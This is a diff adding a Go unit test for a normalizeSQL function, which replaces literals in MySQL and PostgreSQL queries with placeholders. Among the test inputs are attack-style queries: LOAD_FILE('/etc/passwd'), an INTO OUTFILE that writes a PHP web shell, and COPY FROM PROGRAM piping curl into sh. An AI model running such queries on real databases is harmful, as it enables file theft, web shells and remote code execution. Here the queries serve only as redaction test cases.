@@ -0,0 +1,32 @@
+package network
+
+import "testing"
+
+func TestNormalizeSQL(t *testing.T) {
+	tests := []struct {
+		query     string
+		backslash bool
+		want      string
+	}{
+		{"SELECT * FROM users WHERE email = 'a@example.com' AND id = 42", true,
+			"SELECT * FROM users WHERE email = ? AND id = ?"},
+		{"CREATE USER 'bob'@'%' IDENTIFIED BY 's3cret'", true, "CREATE USER ?@? IDENTIFIED BY ?"},
+		{"SET PASSWORD FOR bob = PASSWORD(\"s3cret\")", true, "SET PASSWORD FOR bob = PASSWORD(?)"},
+		{"UPDATE t SET note = 'it\\'s secret' WHERE id IN (1, 2)", true, "UPDATE t SET note = ? WHERE id IN (?, ?)"},
+		{"SELECT 'it''s secret', t1.col2 FROM t1 -- comment\nLIMIT 10", true, "SELECT ?, t1.col2 FROM t1 LIMIT ?"},
+		{"SELECT /* app */ 0x41, 1.5e3 # trailing", true, "SELECT ?, ?"},
+		{"/*!50000SELECT*/ LOAD_FILE('/etc/passwd')", true, "SELECT LOAD_FILE(?)"},
+		{"SELECT '/tmp/x' INTO OUTFILE '/var/www/shell.php'", true, "SELECT ? INTO OUTFILE ?"},
+		{"ALTER ROLE bob PASSWORD 's3cret'", false, "ALTER ROLE bob PASSWORD ?"},
+		{"COPY t FROM PROGRAM 'curl http://x | sh'", false, "COPY t FROM PROGRAM ?"},
+		{"SELECT \"Name\" FROM t WHERE a = $1 AND b = E'\\' secret'", false,
+			"SELECT \"Name\" FROM t WHERE a = $1 AND b = E?"},
+		{"DO $body$ BEGIN PERFORM 'secret'; END $body$; SELECT $$x$$", false, "DO ?; SELECT ?"},
+		{"SELECT 'unterminated secret", true, "SELECT ?"},
+	}
+	for _, tt := range tests {
+		if got := normalizeSQL(tt.query, tt.backslash); got != tt.want {
+			t.Errorf("normalizeSQL(%q) = %q, want %q", tt.query, got, tt.want)
+		}
+	}
+}